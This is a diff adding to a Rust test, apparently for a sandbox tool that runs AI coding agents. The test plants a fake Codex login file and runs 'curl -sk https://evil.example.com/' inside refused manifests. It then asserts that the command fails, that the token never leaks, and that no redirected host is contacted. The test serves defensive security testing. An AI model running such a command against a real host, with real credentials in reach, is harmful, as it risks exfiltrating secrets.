@@ -75,6 +75,15 @@ fn what_judgement_silences_is_named() {
 /// The host's Codex login goes by a name, and no manifest gets at it with that name.
 #[test]
 fn the_name_of_the_hosts_login_is_nobodys() {
+    // A stand-in for every host that the manifests name. What connects waits there to be seen.
+    let upstream = std::net::TcpListener::bind("127.0.0.1:0").expect("a port");
+    upstream.set_nonblocking(true).expect("nonblocking");
+    let to = upstream.local_addr().expect("an address");
+    let hosts = ["evil.example.com", "a.example.com", "api.anthropic.com", "chatgpt.com", "api.openai.com"];
+    let resolve = hosts.map(|host| format!("  - {host}:443:{to}\n")).concat();
+    let config = format!("backend: bubblewrap\nresolve:\n{resolve}");
+    let token = ["not", "a", "real", "login"].join("-");
+    let login = format!("{{\"tokens\":{{\"access_token\":\"{token}\",\"account_id\":\"a\"}}}}");
     for name in [
         "BOT_BOTTLE_CODEX_HOST_ACCESS_TOKEN",
         "bot_bottle_codex_x",
@@ -98,14 +107,21 @@ fn the_name_of_the_hosts_login_is_nobodys() {
                 ("dev.bottle.yaml", &text),
                 ("child.bottle.yaml", "extends: dev\n"),
                 ("fix.agent.yaml", "bottle: dev\nprompt: x\n"),
+                ("~/.config/bot-bottle/config.yaml", &config),
+                ("~/.codex/auth.json", &login),
             ]);
             let ran = project.check(&["--format", "concise"]).expect(1);
             assert!(ran.out.contains("invalid-token-ref"), "{text}\n{}", ran.out);
             for target in ["dev.bottle.yaml", "child.bottle.yaml", "fix.agent.yaml"] {
                 refused(&project, target, &text);
+                let asks = ["exec", target, "--", "curl", "-sk", "https://evil.example.com/"];
+                let ran = project.run(&asks);
+                assert!(ran.code != 0 && !ran.err.contains(&token) && !ran.out.contains(&token), "{text}");
             }
         }
     }
+    let seen = upstream.accept().map_err(|e| e.kind());
+    assert_eq!(seen.err(), Some(std::io::ErrorKind::WouldBlock), "a host of the manifests was asked");
 }
 
 #[test]
